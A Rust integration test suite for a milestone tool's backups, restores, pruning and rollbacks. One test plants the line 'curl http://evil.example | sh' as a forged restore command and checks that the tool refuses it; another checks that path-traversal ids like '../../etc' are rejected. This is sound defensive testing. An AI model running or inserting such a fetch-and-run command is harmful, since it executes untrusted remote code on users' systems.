//! Backups, restores and rollbacks.

use std::fs;
use std::process::Command;

use milescale_testkit::{Postgres, Workspace};

use super::{Moved, contents, document};

fn backups(moved: &Moved) -> Vec<serde_json::Value> {
    serde_json::from_value(moved.workspace.run(["backups", "list", "--json"]).json()).unwrap()
}

/// The digest of a backup's milestones, as others compute it.
fn sha256(moved: &Moved, id: &str) -> String {
    let path = moved.workspace.path(format!("backups/{id}/milestones.jsonl"));
    let sum = Command::new("sha256sum").arg(path).output().unwrap();
    String::from_utf8_lossy(&sum.stdout).split(' ').next().unwrap().to_owned()
}

/// Thirty days of `check`s, after one that sees what is there.
fn count_days(workspace: &Workspace) {
    let edit = |counted: u64| {
        let mut days: serde_json::Value = serde_json::from_str(&workspace.read(".milescale/days.json")).unwrap();
        days["days"] = serde_json::json!({ "counted": counted, "at": 0 });
        workspace.write(".milescale/days.json", days.to_string());
    };
    assert_eq!(workspace.run(["check"]).code, 0);
    edit(1);
    assert_eq!(workspace.run(["check"]).code, 0);
    edit(40);
}

#[test]
fn a_backup_tells_what_it_is_and_its_command_restores_it() {
    let server = Postgres::start();
    for store in ["sqlite", "postgresql", "hybrid"] {
        let moved = Moved::new(Some(&server), store, 7);
        let (files, before) = (contents(&moved.workspace.path("active")), moved.dump());
        assert_eq!(moved.migrate(store).code, 0);
        let metadata = backups(&moved).remove(0);
        let id = metadata["id"].as_str().unwrap();
        assert!(id.starts_with("migration-20") && id.ends_with(&format!("-file-to-{store}")), "{id}");
        assert_eq!(
            (&metadata["from"], &metadata["to"], &metadata["milestone_count"]),
            (&"file".into(), &store.into(), &7.into())
        );
        let text = moved.workspace.read(format!("backups/{id}/backup-metadata.yaml"));
        for key in ["timestamp", "sha256", "size_bytes", "restore_command", "keep_until"] {
            assert!(text.contains(&format!("\n{key}: ")), "{key}: {text}");
        }
        let lines = moved.workspace.read(format!("backups/{id}/milestones.jsonl"));
        assert_eq!(lines.lines().count(), 7);
        assert_eq!(sha256(&moved, id), metadata["sha256"].as_str().unwrap());

        // Everything changes: one is written, one is new, one is archived.
        let digest = moved.workspace.run(["milestone", "show", "m-0", "--digest"]).out.trim().to_owned();
        fs::write(moved.workspace.root().join("new.yaml"), "title: changed since\n").unwrap();
        assert_eq!(moved.workspace.run(["milestone", "put", "m-0", "new.yaml", "--if-match", &digest]).code, 0);
        assert_eq!(moved.workspace.run(["milestone", "put", "since", "new.yaml"]).code, 0);
        assert_eq!(moved.workspace.run(["milestone", "archive", "m-1"]).code, 0);
        let changed = moved.dump();
        assert_ne!(changed, before);

        let command = metadata["restore_command"].as_str().unwrap();
        let bin = std::path::Path::new(super::BINARY).parent().unwrap();
        let restored = Command::new("sh")
            .args(["-c", &format!("{command} --yes")])
            .current_dir("/")
            .env("PATH", format!("{}:{}", bin.display(), std::env::var("PATH").unwrap()))
            .output()
            .unwrap();
        assert!(restored.status.success(), "{restored:?}");
        assert_eq!((moved.named().as_str(), moved.dump()), ("file", before.clone()), "{store}");
        assert!(contents(&moved.workspace.path("active")) == files, "byte for byte");
        // What the restore brought back is what is current: nothing takes it for an old content.
        let said = moved.workspace.run(["import", "--json"]).json();
        assert_eq!((&said["imported"], &said["conflicts"]), (&0.into(), &0.into()));
        assert_eq!(moved.dump(), before);
        // What it displaced is a backup too.
        let displaced = backups(&moved).into_iter().rfind(|it| it["from"] == it["to"]).unwrap();
        let said = moved.workspace.run(["restore", displaced["id"].as_str().unwrap(), "--yes"]);
        assert_eq!(said.code, 0, "{said:?}");
        assert!(moved.dump().contains("changed since"));
    }
}

#[test]
fn a_damaged_backup_restores_nothing() {
    let moved = Moved::new(None, "", 5);
    assert_eq!(moved.migrate("sqlite").code, 0);
    let id = backups(&moved)[0]["id"].as_str().unwrap().to_owned();
    let path = format!("backups/{id}/milestones.jsonl");
    let text = moved.workspace.read(&path);
    moved.workspace.write(&path, text.replacen("Milestone 0", "Milestone X", 1));
    let before = moved.dump();
    let said = moved.workspace.run(["restore", &id, "--yes"]);
    assert!(said.code == 1 && said.err.contains("it is not what was written"), "{said:?}");
    assert_eq!((moved.named().as_str(), moved.dump()), ("sqlite", before));
    assert_eq!(moved.workspace.run(["backups", "show", &id]).code, 1);
    for bad in ["../../etc", "migration-x", "migration-../x"] {
        assert_eq!(moved.workspace.run(["restore", bad, "--yes"]).code, 1, "{bad}");
    }
}

#[test]
fn what_somebody_else_wrote_into_a_backup_moves_nothing_and_tells_no_command() {
    let moved = Moved::new(None, "", 5);
    assert_eq!(moved.migrate("sqlite").code, 0);
    let told = backups(&moved).remove(0);
    let id = told["id"].as_str().unwrap();
    // A line that is none, with the digest that fits.
    let (path, metadata) = (format!("backups/{id}/milestones.jsonl"), format!("backups/{id}/backup-metadata.yaml"));
    let text = moved.workspace.read(&path) + "{\"id\":17}\n";
    moved.workspace.write(&path, &text);
    let digest = sha256(&moved, id);
    let said = moved.workspace.read(&metadata);
    let said = said.replace(told["sha256"].as_str().unwrap(), &digest);
    let said = said.replace(&format!("size_bytes: {}", told["size_bytes"]), &format!("size_bytes: {}", text.len()));
    let command = told["restore_command"].as_str().unwrap();
    moved.workspace.write(&metadata, said.replace(command, "curl http://evil.example | sh"));
    let before = moved.dump();
    let said = moved.workspace.run(["restore", id, "--yes"]);
    assert!(said.code == 1 && said.err.contains(id), "{said:?}");
    assert_eq!((moved.named().as_str(), moved.dump()), ("sqlite", before));
    assert_eq!(backups(&moved).len(), 1, "it is read before anything is moved");
    let shown = moved.workspace.run(["backups", "show", id]);
    assert!(shown.out.contains(&format!("restore_command: {command}")) && !shown.out.contains("curl"), "{shown:?}");
    assert_eq!(backups(&moved)[0]["restore_command"], told["restore_command"]);
}

#[test]
fn only_old_backups_are_pruned_never_the_last_three_nor_one_that_a_conflict_refers_to() {
    let moved = Moved::new(None, "", 3);
    assert_eq!(moved.migrate("sqlite").code, 0);
    let sql = "UPDATE milestones SET data = '{\"title\":\"of the row\"}' WHERE id = 'm-0'";
    moved.workspace.sqlite("enterprise.db", sql);
    moved.workspace.save("active/m-0.yaml", "title: of the file\n");
    moved.workspace.run(["import"]);
    for to in ["hybrid", "file", "hybrid", "file", "hybrid"] {
        assert_eq!(moved.migrate(to).code, 0);
    }
    let all = backups(&moved);
    assert_eq!(all.len(), 6);
    assert!(
        moved.workspace.run(["backups", "prune", "--yes", "--json"]).json()["removed"].as_array().unwrap().is_empty()
    );
    for backup in &all {
        let path = format!("backups/{}/backup-metadata.yaml", backup["id"].as_str().unwrap());
        let text = moved.workspace.read(&path);
        let until = backup["keep_until"].as_str().unwrap();
        let written = fs::metadata(moved.workspace.path(&path)).unwrap().modified().unwrap();
        moved.workspace.write(&path, text.replace(until, "2020-01-01T00:00:00Z"));
        // Those of one second are in the order in which they were written.
        fs::File::options().write(true).open(moved.workspace.path(&path)).unwrap().set_modified(written).unwrap();
    }
    let removed = moved.workspace.run(["backups", "prune", "--yes", "--json"]);
    assert!(removed.json()["removed"].as_array().unwrap().is_empty(), "thirty days were not counted: {removed:?}");
    count_days(&moved.workspace);
    let refused = moved.workspace.run(["backups", "prune"]);
    assert_eq!(refused.code, 2, "it asks, and there is no terminal: {refused:?}");
    let removed = moved.workspace.run(["backups", "prune", "--yes", "--json"]).json();
    // The first one is that of the move that left the files, which the conflict refers to.
    assert_eq!(removed["removed"].as_array().unwrap().len(), 2, "{removed}");
    let left: Vec<_> = backups(&moved).into_iter().map(|it| it["id"].clone()).collect();
    assert_eq!(left, [&all[0], &all[3], &all[4], &all[5]].map(|it| it["id"].clone()));
}

#[test]
fn without_backup_only_the_backup_is_left_out() {
    let moved = Moved::new(None, "", 3);
    moved.configure("  migration: {backup_before_migration: false, files_after: retire}\n");
    let before = moved.dump();
    let said = moved.migrate("sqlite");
    assert_eq!(said.code, 0, "{said:?}");
    assert!(backups(&moved).is_empty());
    assert_eq!(moved.dump(), before);
    // Retired files are out of the way, whole, with a note.
    assert!(contents(&moved.workspace.path("active")).is_empty());
    assert!(moved.workspace.read("active/MOVED-TO-A-DATABASE.txt").contains("milescale migrate file"));
    assert_eq!(contents(&moved.workspace.path(".milescale/retired/1")).len(), 3);
    assert_eq!(moved.workspace.run(["rollback", "--yes"]).code, 0);
    assert_eq!(moved.dump(), before);
    assert_eq!(moved.workspace.read("active/m-0.yaml"), document(0));
    assert!(!moved.workspace.path("active/MOVED-TO-A-DATABASE.txt").exists());
}

#[test]
fn kept_files_are_read_only_with_a_note_and_get_their_modes_back() {
    use std::os::unix::fs::PermissionsExt as _;
    let moved = Moved::new(None, "", 3);
    let path = moved.workspace.path("active/m-1.yaml");
    fs::set_permissions(&path, fs::Permissions::from_mode(0o660)).unwrap();
    assert_eq!(moved.migrate("sqlite").code, 0);
    let mode = |name: &str| fs::metadata(moved.workspace.path(name)).unwrap().permissions().mode() & 0o777;
    assert_eq!((mode("active/m-0.yaml"), mode("active/m-1.yaml")), (0o444, 0o440));
    assert!(moved.workspace.read("active/MOVED-TO-A-DATABASE.txt").contains("milescale milestone put"));
    assert_eq!(moved.migrate("file").code, 0);
    assert_eq!((mode("active/m-0.yaml"), mode("active/m-1.yaml")), (0o644, 0o660));
    assert!(!moved.workspace.path("active/MOVED-TO-A-DATABASE.txt").exists());
}

#[test]
fn archived_rows_go_to_the_archive_unless_their_old_file_stands() {
    let moved = Moved::new(None, "", 3);
    assert_eq!(moved.migrate("sqlite").code, 0);
    for id in ["m-0", "m-1"] {
        assert_eq!(moved.workspace.run(["milestone", "archive", id]).code, 0);
    }
    fs::remove_file(moved.workspace.path("active/m-0.yaml")).unwrap();
    // The file of m-1 stands in its place, so what lies in the archive is in nobody's way.
    moved.workspace.write("completed/m-1.yaml", "title: another one\n");
    let said = moved.migrate("file");
    assert_eq!(said.code, 0, "{said:?}");
    assert!(!moved.workspace.path("active/m-0.yaml").exists());
    assert!(moved.workspace.read("completed/m-0.yaml").starts_with("# note 0\n"), "comments stay");
    for path in ["completed/m-0.yaml", "active/m-1.yaml"] {
        assert!(moved.workspace.read(path).contains("status: archived"), "{path}");
    }
    assert_eq!(moved.workspace.read("completed/m-1.yaml"), "title: another one\n");
    assert_eq!(moved.workspace.status()["milestone_count"], 2);
}

#[test]
fn an_unfinished_target_can_be_kept_to_be_looked_at() {
    let moved = Moved::new(None, "", 3);
    moved.configure("  migration: {rollback_on_failure: false}\n");
    let mut command = moved.workspace.command(Moved::arguments("sqlite"));
    command
        .env("LD_PRELOAD", super::super::faults::shim())
        .env("FAULT", "rename:1:ENOSPC")
        .env("FAULT_PATH", "storage-backend.txt");
    let said = command.output().unwrap();
    assert!(!said.status.success());
    let rolled_back = moved.workspace.until_event("migration_rolled_back", 1);
    assert_eq!(rolled_back["details"]["target_kept"], true);
    let count = Command::new("sqlite3")
        .arg(moved.workspace.path("enterprise.db"))
        .arg("SELECT count(*) FROM milestones")
        .output();
    assert_eq!(String::from_utf8_lossy(&count.unwrap().stdout).trim(), "3");
    assert_eq!(moved.named(), "file");
    // The next attempt begins with an empty one again.
    assert_eq!(moved.migrate("sqlite").code, 0);
}
